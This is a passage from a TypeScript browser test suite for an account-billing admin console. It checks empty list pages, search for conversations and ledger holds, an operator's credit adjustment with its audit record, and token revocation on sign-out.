    const granted = Number(account.balance.units.find((u: { unit: string }) => u.unit === "credits").granted_micros) / 1_000_000;
    expect(await page.getByTestId("overview-credits").textContent()).toContain(`of ${granted.toLocaleString("en-US")} credits`);
    await page.getByTestId("bucket-pie").waitFor();
    await page.screenshot({ path: `${screenshotDir}/account-overview.png`, fullPage: true });
    await page.goto(`${gateway.url}/#/tollgate-accounts/acme/show/tools`);
    await page.getByTestId("tool-catalogue").getByTestId("empty-state").waitFor(); // acme has deployed no tool
    await page.screenshot({ path: `${screenshotDir}/account-tools.png`, fullPage: true });
    await page.goto(`${gateway.url}/#/tollgate-accounts/acme/show/models`);
    await page.getByTestId("top-model").getByText("gpt-4o").first().waitFor();
    await page.screenshot({ path: `${screenshotDir}/account-models.png`, fullPage: true });
    expect(cspViolations(page)).toEqual([]);
    await page.close();
  });

  it("says so when a list is empty, on every list page, without a pager", async () => {
    const page = await signIn("vera", "viewer-pass", "/#/tollgate-entries");
    const emptyPages = [
      "/#/tollgate-entries",
      `/#/tollgate-accounts?filter=${encodeURIComponent(JSON.stringify({ q: "no-such-account" }))}`,
      `/#/tollgate-holds?filter=${encodeURIComponent(JSON.stringify({ account_id: "nobody", status: "open" }))}`,
      `/#/tollgate-work?filter=${encodeURIComponent(JSON.stringify({ account_id: "nobody", state: "running" }))}`,
      `/#/tollgate-rate-tables?filter=${encodeURIComponent(JSON.stringify({ table_id: "no-such-table" }))}`,
      `/#/tollgate-notifications?filter=${encodeURIComponent(JSON.stringify({ account_id: "nobody" }))}`,
      `/#/tollgate-audit?filter=${encodeURIComponent(JSON.stringify({ account_id: "nobody" }))}`,
      "/#/tollgate-search",
    ];
    for (const path of emptyPages) {
      await page.goto(`${gateway.url}${path}`);
      await page.getByTestId("empty-state").first().waitFor();
      expect(await page.locator(".MuiTablePagination-root").count(), path).toBe(0);
      expect(await page.getByText(/\d+–\d+ of/).count(), path).toBe(0);
    }
    await page.goto(`${gateway.url}/#/tollgate-entries`);
    await page.getByTestId("empty-state").first().waitFor();
    await page.screenshot({ path: `${screenshotDir}/ledger-explorer-empty.png`, fullPage: true });
    await page.close();
  }, 120_000);

  it("finds a conversation's charge across accounts from the app bar, and a hold from the ledger explorer's search box", async () => {
    const { ledger } = platform.clients;
    const hold = await call(ledger, ledger.authorize, ledgerV1.AuthorizeRequest.fromPartial({
      accountId: "acme", estimate: replies("gpt-4o", 1), attribution: { conversationId: "conv-ticket-1234" }, idempotencyKey: "browser-ticket-hold", ttlMs: "600000",
    }));
    await call(ledger, ledger.charge, ledgerV1.ChargeRequest.fromPartial({
      accountId: "acme", holdId: hold.holdId, usage: replies("gpt-4o", 1), attribution: { conversationId: "conv-ticket-1234" }, final: true, idempotencyKey: "browser-ticket-charge",
    }));
    const page = await signIn("vera", "viewer-pass", "/#/tollgate-accounts");
    await page.getByTestId("app-search").fill("conv-ticket-1234");
    await page.getByTestId("app-search").press("Enter");
    const hits = page.getByTestId("search-hit");
    await hits.first().waitFor();
    expect(await hits.count()).toBe(1);
    const text = (await hits.first().textContent()) ?? "";
    expect(text).toContain("conversation");
    expect(text).toContain("acme");
    expect(text).toContain(hold.holdId);
    await page.screenshot({ path: `${screenshotDir}/search.png`, fullPage: true });
    await hits.first().getByTestId("hold-link").click();
    await page.getByTestId("hold-dialog").getByText("default v").first().waitFor(); // the rate table, numbered per table

    await page.keyboard.press("Escape");
    await page.goto(`${gateway.url}/#/tollgate-entries`);
    await page.getByTestId("explorer-search").fill(hold.holdId);
    await page.getByTestId("explorer-search").press("Enter");
    await page.waitForURL((url) => url.hash.includes("tollgate-search"));
    await page.getByTestId("search-hit").first().getByText("hold id").waitFor();
    expect(await page.getByTestId("search-hit").count()).toBe(1);

    // The ledger explorer filters an account's entries by attribution ("Add filter"): only the conversation's charge.
    await page.goto(`${gateway.url}/#/tollgate-entries?filter=${encodeURIComponent(JSON.stringify({ account_id: "acme" }))}`);
    const rows = page.locator("tbody tr").filter({ hasText: /\S/ }); // not the rows an entry's details expand into
    await expect.poll(() => rows.count()).toBeGreaterThan(1);
    await page.getByRole("button", { name: "Add filter" }).click();
    await page.getByRole("menuitemcheckbox", { name: "Conversation" }).click();
    await page.getByLabel("Conversation").fill("conv-ticket-1234");
    await expect.poll(() => rows.count(), { timeout: 10_000 }).toBe(1);
    expect(await rows.first().textContent()).toContain(hold.holdId);
    expect(decodeURIComponent(new URL(page.url()).hash)).toContain('"attr":{"conversation_id":"conv-ticket-1234"}');
    await page.close();
  }, 120_000);

  it("says so when an operator's Adjust takes back a reloading add-on and turns its reload off, and records it in the audit row", async () => {
    const { entitlements, ledger } = platform.clients;
    await call(entitlements, entitlements.createAccount, entitlementsV1.CreateAccountRequest.fromPartial({ accountId: "refunded", name: "Refunded", planId: "starter", seats: 1 }));
    const addOn = await call(ledger, ledger.grant, ledgerV1.GrantRequest.fromPartial({
      accountId: "refunded", poolKind: entitlementsV1.PoolKind.POOL_KIND_ADD_ON, unit: commonV1.Unit.UNIT_CREDITS, amountMicros: String(50_000_000),
      reason: "add-on purchase", actor: "billing", idempotencyKey: "refunded-addon", reloadBelowMicros: String(20_000_000), reloadToMicros: String(50_000_000),
    }));
    const page = await signIn("otto", "operator-pass", "/#/tollgate-accounts/refunded/show");
    await page.getByTestId("adjust-button").click();
    await page.getByTestId("adjust-dialog").waitFor();
    await page.getByTestId("adjust-pool").selectOption(addOn.poolId);
    await page.getByTestId("adjust-amount").fill("-40");
    await submitWithReason(page, "adjust", "add-on purchase refunded");
    await page.getByText("the pool's auto reload is now off").waitFor();
    const audit = await api("/api/audit?account_id=refunded");
    expect(audit.data[0]).toMatchObject({ action: "adjust", after: { reload_stopped: true } });
    await page.close();
  });

  it("signs out from the user menu: the gateway revokes the token, so a copy of it stops working too", async () => {
    const page = await signIn("ada", "admin-pass", "/#/tollgate-accounts");
    const token = (await page.evaluate(() => localStorage.getItem("tollgate.token")))!;
    const me = async () => {
      const response = await fetch(`${gateway.url}/api/me`, { headers: { authorization: `Bearer ${token}` } });
      return { status: response.status, body: (await response.json()) as Record<string, any> };
    };
    expect((await me()).status).toBe(200);
    await page.getByRole("button", { name: "Profile" }).click();
    await page.getByRole("menuitem", { name: "Logout" }).click();
    await page.waitForURL((url) => url.hash.includes("login"));
    expect(await page.evaluate(() => localStorage.getItem("tollgate.token"))).toBeNull();
    await expect.poll(me, { timeout: 10_000 }).toMatchObject({ status: 401, body: { error: { reason: "TOKEN_REVOKED" } } });
    await page.close();
  });
});
